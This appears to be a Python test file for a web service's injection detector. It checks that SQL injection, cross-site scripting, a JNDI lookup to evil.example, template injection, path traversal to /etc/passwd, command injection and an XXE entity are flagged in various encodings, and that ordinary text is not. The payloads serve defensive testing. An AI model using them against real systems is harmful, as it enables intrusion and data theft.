"""Text that hopes to be taken for a command is told from text that people write."""

from __future__ import annotations

from typing import Any

import pytest

from tongbao.web.injection import suspected


def scope(path: str = "/", query: str = "") -> dict[str, Any]:
    return {"path": path, "query_string": query.encode()}


@pytest.mark.parametrize(
    "text",
    [
        "' OR 1=1 --",
        "x' and 'a'='a",
        "1 UNION ALL SELECT name FROM pg_user",
        "'; DROP TABLE payment",
        "1; WAITFOR DELAY '0:0:5'",
        "1 and pg_sleep(5)",
        "admin'--",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "../../etc/passwd",
        "x; cat /etc/hosts",
        '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]>',
    ],
)
def test_a_command_is_suspect_wherever_it_stands(text: str) -> None:
    escaped = "".join(f"%{byte:02x}" for byte in text.encode())
    assert suspected(scope(path=f"/v1/{text}"), None)
    assert suspected(scope(query=f"q={escaped}"), None)
    assert suspected(scope(query=f"q={escaped.replace('%', '%25')}"), None), "escaped twice"
    assert suspected(scope(), f"name={escaped}".encode()), "in a form"
    as_json = "".join(f"\\u{ord(letter):04x}" for letter in text)
    assert suspected(scope(), f'{{"name": "{as_json}"}}'.encode()), "in a body, with JSON's own escapes"


@pytest.mark.parametrize(
    "text",
    [
        "O'Brien & Sons, lunch = 12 or so",
        "please select one; delete the rest",
        "1 < 2 and 3 > 2",
        "Tom and Ann = friends",
        "thanks -- see you",
        "rent 11/2026; 李明 (工资)",
        '{"payer_account_id":"0192-aa","reference":"Ann\'s order","amount":100}',
        "state=completed&from=2026-11-01&to=2026-11-22",
        "{{name}} ${amount}",
        "C: is a note in music",
    ],
)
def test_what_people_write_is_not(text: str) -> None:
    assert not suspected(scope(query=text), text.encode())


def test_only_the_beginning_of_a_long_body_is_looked_at() -> None:
    assert suspected(scope(), b"<script>" + b"a" * 10_000_000)
    assert not suspected(scope(), b"a" * 10_000_000 + b"<script>")
